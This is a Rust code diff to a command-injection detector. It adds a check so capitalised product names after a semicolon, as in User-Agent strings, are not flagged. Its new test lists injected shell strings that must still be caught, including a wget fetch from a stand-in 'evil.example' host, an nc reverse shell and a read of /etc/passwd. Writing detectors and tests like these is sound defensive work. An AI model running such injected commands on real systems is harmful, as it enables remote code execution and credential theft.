@@ -1495,7 +1495,8 @@ pub fn detect(s: &str) -> Option<Found> {
                 && ["data:image/", "data:audio/", "data:video/", "data:font/"]
                     .iter()
                     .any(|m| super::gate::contains_ignore_case(b, m.as_bytes()));
-            if !data_url {
+            let product = c == b';' && product_token(rest);
+            if !data_url && !product {
                 found = best(found, command_at(rest, true));
             }
             if found.is_some_and(|f| f.1 >= 0.9) {
@@ -1545,6 +1546,39 @@ pub fn detect(s: &str) -> Option<Found> {
         found = Some(("rce.powershell", 0.85));
     }
     found
+}
+
+/// What follows a `;` is a capitalised word (not all capitals) with no
+/// shell argument (`(compatible; Nmap Scripting Engine; ...)`,
+/// `(compatible; Wget)`, `; Python rocks`): a product token in a
+/// User-Agent comment, or prose.
+/// Unix shells, to which `;` separates commands, find programs by their
+/// lower-case names, so `Wget` runs nothing there; PowerShell would run it,
+/// but a fetch or a shell written that way carries an argument: an option,
+/// a path, a URL or a redirection, which keeps the word judged.
+fn product_token(rest: &str) -> bool {
+    let t = rest.trim_start_matches([' ', '\t']);
+    if !t.as_bytes().first().is_some_and(u8::is_ascii_uppercase) {
+        return false;
+    }
+    let end = t
+        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')))
+        .unwrap_or(t.len());
+    // All capitals (`;CHMOD +X EVIL.PHP`) is a shell line shouted to get
+    // past a case-sensitive filter, no product name.
+    if !t
+        .get(..end)
+        .is_some_and(|w| w.bytes().any(|c| c.is_ascii_lowercase()))
+    {
+        return false;
+    }
+    let after = t.get(end..).unwrap_or("");
+    let next = after.trim_start_matches([' ', '\t', '+']);
+    !strong_args(after)
+        && !next.starts_with(['|', '>', '<', '&', '`', '$', '\'', '"'])
+        && !next
+            .get(..4)
+            .is_some_and(|p| p.eq_ignore_ascii_case("http") || p.eq_ignore_ascii_case("ftp:"))
 }
 
 /// A whole value that is a directory-stack tilde (`~+`, `~-`, `~+5`, `~-1`:
@@ -1764,6 +1798,34 @@ mod tests {
             "visudo",
         ] {
             assert!(detect(a).is_some_and(|f| f.1 >= 0.5), "missed {a:?}");
+        }
+    }
+
+    /// A capitalised word after `;` is a product token or prose unless a
+    /// shell argument follows it.
+    #[test]
+    fn product_tokens_after_a_semicolon() {
+        for b in [
+            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+            "Mozilla/5.0 (compatible; Wget)",
+            "Mozilla/5.0 (compatible; Python requests)",
+            "Mozilla/5.0 (compatible; Curl 7.1)",
+            "Mozilla/5.0 (compatible; Telnet Checker)",
+            "we tried it; Perl was faster",
+        ] {
+            assert_eq!(detect(b), None, "flagged {b:?}");
+        }
+        for a in [
+            "x; Wget http://evil.example/x.sh",
+            "x;Cat /etc/passwd",
+            "x; Nc -e /bin/sh 10.0.0.1 4444",
+            "x; Whoami > /tmp/o",
+            ";CHMOD +X EVIL.PHP",
+            "x; wget)",
+            "x; nmap scan",
+            "x | Whoami",
+        ] {
+            assert!(detect(a).is_some(), "missed {a:?}");
         }
     }
 
